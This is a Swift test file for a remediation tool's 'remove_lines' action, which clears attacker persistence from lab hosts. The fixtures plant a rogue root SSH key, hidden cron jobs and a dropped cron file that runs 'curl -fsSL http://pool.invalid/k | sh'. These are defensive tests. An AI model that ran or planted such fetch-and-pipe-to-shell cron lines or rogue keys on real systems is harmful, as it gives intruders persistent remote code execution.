import Foundation
import ScourEngine
import ScourLab
import TestSupport
import Testing

/// `remove_lines` through the real `scour` on lab hosts: an attacker's key line out of root's
/// authorized_keys (the controller's key line and another kept) and a cron line out of a cron
/// file; the miner's lines out of every file a glob matches (the cryptominer scenario);
/// plan, apply, plan again, restore; the hosts checked over plain OpenSSH.
@Suite(.needs(.lab))
struct RemoveLinesOnLabTests {
    static let keys = "/root/.ssh/authorized_keys"
    static let cron = "/etc/cron.d/sysstat"
    static let attackerKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMinerKeyMinerKeyMinerKeyMinerKeyMinerKey x@kworker"
    static let otherKey = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDops ops@bastion"
    static let cronLine = "* * * * * root /opt/.kworker/run >/dev/null 2>&1"
    static let cronKept = "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1"
    /// Bytes, mode, owner, group and mtime of both files.
    static let describe = "sha256sum \(keys) \(cron); stat -c '%a %U %G %Y' \(keys) \(cron)"

    static let playbook = """
        playbook "persistence" {
          platform = linux
          remove_lines "attacker_key" {
            paths    = ['\(keys)']
            pattern  = ' x@kworker$'
            validate = "test -s \(keys)"
          }
          remove_lines "miner_cron" {
            paths = ['\(cron)', '/etc/cron.d/kworker']
            lines = ['\(cronLine)']
          }
        }
        """

    private func scour(_ lab: LabFixture, _ arguments: [String]) async throws -> ScourCLI.Result {
        try await ScourCLI.run(arguments, environment: ["SCOUR_RUNS_DIR": lab.directory + "/runs"])
    }

    private func write(_ lab: LabFixture, _ name: String, _ text: String) throws -> String {
        let path = "\(lab.directory)/\(name)"
        try text.write(toFile: path, atomically: true, encoding: .utf8)
        return path
    }

    /// The controller's own key first (so the lab keeps its way in), the attacker's between
    /// two others, the last line without a newline; cron with the miner's line in the middle.
    private func plant(_ lab: LabFixture, _ host: LabState.Host, infected: Bool) async throws -> (keys: String, cron: String) {
        let controller = try String(contentsOfFile: lab.clientKey + ".pub", encoding: .utf8).trimmingCharacters(in: .whitespacesAndNewlines)
        let keys = controller + "\n" + (infected ? Self.attackerKey + "\n" : "") + Self.otherKey
        let cron = "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
            + (infected ? Self.cronLine + "\n" : "") + Self.cronKept + "\n"
        let planted = try await lab.ssh(host, """
            set -e
            mkdir -p -m 700 /root/.ssh
            cat > \(Self.keys) && chmod 640 \(Self.keys) && chown root:nogroup \(Self.keys) && touch -m -d @1000000000 \(Self.keys)
            printf '%s' '\(Data(cron.utf8).base64EncodedString())' | base64 -d > \(Self.cron) && chmod 644 \(Self.cron)
            """, stdin: Data(keys.utf8))
        #expect(planted.status == 0, "\(planted.stderr)")
        return (keys, cron)
    }

    private func journal(_ lab: LabFixture, _ run: String) throws -> [[String: Any]] {
        let text = try String(contentsOfFile: "\(lab.directory)/runs/\(run)/journal.jsonl", encoding: .utf8)
        return try text.split(separator: "\n").map { try JSONSerialization.jsonObject(with: Data($0.utf8)) as! [String: Any] }
    }

    @Test func plan_apply_plan_and_restore_remove_exactly_the_lines_and_put_them_back() async throws {
        let lab = try await LabFixture(hosts: 2, scenario: "clean")
        let (infected, clean) = (lab.state.hosts[0], lab.state.hosts[1])
        let seeded = try await plant(lab, infected, infected: true)
        _ = try await plant(lab, clean, infected: false)
        let before = try await lab.ssh(infected, Self.describe).stdout
        let playbook = try write(lab, "persistence.scour", Self.playbook)
        let common = ["-i", lab.inventory, "--known-hosts", lab.knownHosts]

        let plan = try await scour(lab, ["plan", playbook] + common)
        #expect(plan.status == 0, "\(plan.stdout)\(plan.stderr)")
        #expect(plan.stdout.contains("attacker_key (remove_lines)  change: edit \(Self.keys): remove line 2"), "\(plan.stdout)")
        #expect(plan.stdout.contains("miner_cron (remove_lines)    change: edit \(Self.cron): remove line 3"), "\(plan.stdout)")
        #expect(plan.stdout.contains("-\(Self.attackerKey)"), "the diff shows the key line going: \(plan.stdout)")
        #expect(plan.stdout.contains("-\(Self.cronLine)"))
        #expect(plan.stdout.contains(" \(Self.otherKey)"), "with context")
        #expect(try await lab.ssh(infected, Self.describe).stdout == before, "planning changes nothing")

        let applied = try await scour(lab, ["apply", playbook] + common + ["--no-progress"])
        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
        let controller = try String(contentsOfFile: lab.clientKey + ".pub", encoding: .utf8).trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(try await lab.ssh(infected, "cat \(Self.keys)").stdout == controller + "\n" + Self.otherKey, "exactly the attacker's line went")
        #expect(try await lab.ssh(infected, "cat \(Self.cron)").stdout == seeded.cron.replacingOccurrences(of: Self.cronLine + "\n", with: ""))
        #expect(try await lab.ssh(infected, "stat -c '%a %U %G' \(Self.keys) \(Self.cron)").stdout == "640 root nogroup\n644 root root\n", "owner and mode kept")
        #expect(try await lab.ssh(infected, "ls -A /root/.ssh /etc/cron.d").stdout == "/etc/cron.d:\nsysstat\n\n/root/.ssh:\nauthorized_keys\n",
                "no temporary left")
        #expect(try await lab.ssh(clean, "cat \(Self.keys)").stdout == controller + "\n" + Self.otherKey, "the clean host is untouched")

        let run = try #require(try FileManager.default.contentsOfDirectory(atPath: lab.directory + "/runs").sorted().last)
        let edits = try journal(lab, run).compactMap { $0["config_edits"] as? [[String: Any]] }.flatMap { $0 }
        #expect(edits.compactMap { $0["path"] as? String }.sorted() == [Self.cron, Self.keys], "one record per edited file: \(edits)")
        #expect(edits.contains { $0["path"] as? String == Self.keys && $0["mode"] as? String == "640" && $0["owner"] as? String == "root" })

        let again = try await scour(lab, ["plan", playbook] + common + ["--format", "json"])
        #expect(again.status == 0, "\(again.stderr)")
        let document = try PlanDocument.decode(Data(again.stdout.utf8))
        for host in document.hosts {
            #expect(host.steps.allSatisfy { $0.action == .ok && $0.changes.isEmpty }, "\(host.name): \(host.steps)")
        }
        let steps = try #require(document.hosts.first { $0.name == infected.name }?.steps)
        #expect(steps.map(\.reason) == ["no line of \(Self.keys) matches", "no line of \(Self.cron) matches"])

        let restored = try await scour(lab, ["restore", run])
        #expect(restored.status == 0, "\(restored.stdout)\(restored.stderr)")
        #expect(restored.stdout.contains("restored 0 files and 2 configs"), "\(restored.stdout)")
        #expect(try await lab.ssh(infected, Self.describe).stdout == before, "bytes, mode, owner and mtime back")
        #expect(try await lab.ssh(infected, "cat \(Self.keys)").stdout == seeded.keys)
        #expect(try await lab.ssh(infected, "cat \(Self.cron)").stdout == seeded.cron)
    }

    @Test func a_failed_validation_or_a_refused_file_puts_every_file_of_the_step_back() async throws {
        let lab = try await LabFixture(hosts: 1, scenario: "clean")
        let host = lab.state.hosts[0]
        _ = try await plant(lab, host, infected: true)
        let before = try await lab.ssh(host, Self.describe).stdout
        let playbook = try write(lab, "failing.scour", """
            playbook "failing" {
              platform = linux
              remove_lines "both" {
                paths    = ['\(Self.keys)', '\(Self.cron)']
                pattern  = ' x@kworker$|/opt/\\.kworker/'
                validate = "grep -q '^never there' \(Self.keys)"
              }
            }
            """)
        let applied = try await scour(lab, ["apply", playbook, "-i", lab.inventory, "--known-hosts", lab.knownHosts, "--no-progress"])
        #expect(applied.status == 1, "\(applied.stdout)")
        #expect(applied.stdout.contains("failed (exit 1); the originals of \(Self.keys), \(Self.cron) were put back"), "\(applied.stdout)")
        #expect(try await lab.ssh(host, Self.describe).stdout == before, "both files byte for byte, with mode, owner and mtime")
        let run = try #require(try FileManager.default.contentsOfDirectory(atPath: lab.directory + "/runs").sorted().last)
        let finished = try journal(lab, run).filter { $0["event"] as? String == "step_finished" }
        #expect(finished.map { ($0["config_edits"] as? [Any])?.count } == [0], "the record says nothing is left written: nothing for restore")

        // A later file whose folder is reached through a link is refused as the step replaces
        // it: the file already replaced goes back too.
        let linked = try await lab.ssh(host, "mkdir -p /tmp/real && printf 'umask 022\\n/opt/.kworker/run &\\n' > /tmp/real/profile && ln -s /tmp/real /root/linked")
        #expect(linked.status == 0, "\(linked.stderr)")
        let profile = try await lab.ssh(host, "cat /root/linked/profile").stdout
        let refused = try write(lab, "refused.scour", """
            playbook "refused" {
              platform = linux
              remove_lines "both" {
                paths   = ['\(Self.keys)', '/root/linked/profile']
                pattern = ' x@kworker$|/opt/\\.kworker/'
              }
            }
            """)
        let stopped = try await scour(lab, ["apply", refused, "-i", lab.inventory, "--known-hosts", lab.knownHosts, "--no-progress"])
        #expect(stopped.status == 1, "\(stopped.stdout)")
        #expect(stopped.stdout.contains("replacing /root/linked/profile failed"), "\(stopped.stdout)")
        #expect(stopped.stdout.contains("the originals of \(Self.keys) were put back"), "\(stopped.stdout)")
        #expect(try await lab.ssh(host, Self.describe).stdout == before, "the key file back byte for byte, with mode, owner and mtime")
        #expect(try await lab.ssh(host, "cat /tmp/real/profile").stdout == profile, "the file behind the link untouched")
        let second = try #require(try FileManager.default.contentsOfDirectory(atPath: lab.directory + "/runs").sorted().last)
        let refusedFinish = try journal(lab, second).filter { $0["event"] as? String == "step_finished" }
        #expect(refusedFinish.map { ($0["config_edits"] as? [Any])?.count } == [0], "put back, and the refused file never written")
        let restore = try await scour(lab, ["restore", second, "--dry-run"])
        #expect(restore.stdout.contains("nothing quarantined or edited") && !restore.stdout.contains("the backup is missing"),
                "no edit on record, so none whose backup is missing: \(restore.stdout)")
    }

    /// The files of the glob case: what `/etc/cron.d/*` matches and root's crontab.
    static let cronFiles = "/etc/cron.d/* /var/spool/cron/crontabs/root"

    @Test func a_glob_edits_every_matched_file_with_a_matching_line_within_max_matches_and_restore_puts_each_back() async throws {
        let lab = try await LabFixture(hosts: 2, scenario: "cryptominer", extraArguments: ["--infected-share", "50%"])
        let infected = try #require(lab.state.hosts.first { $0.infected })
        let clean = try #require(lab.state.hosts.first { !$0.infected })
        // A second dropped file: the glob then has two files to edit, one of them all malicious but a comment.
        let dropped = try await lab.ssh(infected, "printf '# kworker\\n*/5 * * * * root curl -fsSL http://pool.invalid/k | sh\\n' > /etc/cron.d/0kworker")
        #expect(dropped.status == 0, "\(dropped.stderr)")
        let matched = try await lab.ssh(infected, "ls -d /etc/cron.d/*").stdout.split(separator: "\n").map(String.init)
        #expect(matched.contains("/etc/cron.d/sysstat") && matched.contains("/etc/cron.d/e2scrub_all") && matched.contains("/etc/cron.d/0kworker"))
        let describe = "sha256sum \(Self.cronFiles); stat -c '%n %a %U %G %Y' \(Self.cronFiles)"
        let before = try await lab.ssh(infected, describe).stdout
        var originals: [String: String] = [:]
        for path in matched + ["/var/spool/cron/crontabs/root"] { originals[path] = try await lab.ssh(infected, "cat \(path)").stdout }
        let common = ["-i", lab.inventory, "--known-hosts", lab.knownHosts]
        func playbook(_ maxMatches: Int) throws -> String {
            try write(lab, "cron-\(maxMatches).scour", """
                playbook "cron" {
                  platform = linux
                  remove_lines "miner_cron" {
                    paths       = ['/etc/cron.d/*', '/var/spool/cron/crontabs/root', '/etc/cron.d/sysstat']
                    max_matches = \(maxMatches)
                    pattern     = 'pool\\.invalid'
                  }
                }
                """)
        }

        // More files than max_matches: the step is blocked, nothing is touched.
        let narrow = try playbook(matched.count - 1)
        let blocked = try await scour(lab, ["apply", narrow] + common + ["--no-progress"])
        #expect(blocked.status != 0)
        #expect(blocked.stdout.contains("/etc/cron.d/* matches \(matched.count) paths, more than max_matches = \(matched.count - 1)"), "\(blocked.stdout)")
        #expect(try await lab.ssh(infected, describe).stdout == before, "a blocked step changes nothing")

        let wide = try playbook(matched.count)
        let plan = try await scour(lab, ["plan", wide] + common)
        #expect(plan.status == 0, "\(plan.stdout)\(plan.stderr)")
        #expect(plan.stdout.contains("changes: 3 edit config"), "\(plan.stdout)")
        for path in ["/etc/cron.d/0kworker", "/etc/cron.d/sysstat", "/var/spool/cron/crontabs/root"] {
            #expect(plan.stdout.contains("edit \(path): remove line"), "\(path): \(plan.stdout)")
            #expect(plan.stdout.contains("--- \(path)\n") && plan.stdout.contains("+++ \(path) (scour)\n"), "a diff per edited file: \(path)")
        }
        #expect(!plan.stdout.contains("edit /etc/cron.d/e2scrub_all"), "the benign file is not edited")
        #expect(try await lab.ssh(infected, describe).stdout == before, "planning changes nothing")

        let applied = try await scour(lab, ["apply", wide] + common + ["--no-progress"])
        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
        for (path, original) in originals {
            let kept = original.split(separator: "\n", omittingEmptySubsequences: false).filter { !$0.contains("pool.invalid") }.joined(separator: "\n")
            #expect(try await lab.ssh(infected, "cat \(path)").stdout == kept, "\(path): exactly the miner's lines went")
        }
        #expect(try await lab.ssh(infected, "grep -l pool.invalid \(Self.cronFiles)").status == 1, "no matching line left in any matched file")
        #expect(try await lab.ssh(infected, "stat -c '%a %U' /var/spool/cron/crontabs/root").stdout == "600 root\n", "mode and owner kept")
        let run = try #require(try FileManager.default.contentsOfDirectory(atPath: lab.directory + "/runs").sorted().last)
        let edits = try journal(lab, run).compactMap { $0["config_edits"] as? [[String: Any]] }.flatMap { $0 }
        #expect(edits.compactMap { $0["path"] as? String }.sorted() == ["/etc/cron.d/0kworker", "/etc/cron.d/sysstat", "/var/spool/cron/crontabs/root"],
                "one record per edited file, the file named twice once: \(edits)")

        let again = try await scour(lab, ["plan", wide] + common + ["--format", "json"])
        let document = try PlanDocument.decode(Data(again.stdout.utf8))
        for host in document.hosts {
            #expect(host.steps.allSatisfy { $0.action == .ok && $0.changes.isEmpty }, "\(host.name): \(host.steps)")
        }
        let cleanSteps = try #require(document.hosts.first { $0.name == clean.name }?.steps)
        #expect(cleanSteps.first?.reason.hasPrefix("no line of the ") == true, "the clean host's matched files were read: \(cleanSteps)")

        let restored = try await scour(lab, ["restore", run])
        #expect(restored.status == 0, "\(restored.stdout)\(restored.stderr)")
        #expect(restored.stdout.contains("restored 0 files and 3 configs"), "\(restored.stdout)")
        #expect(try await lab.ssh(infected, describe).stdout == before, "every edited file back: bytes, mode, owner and mtime")
    }
}
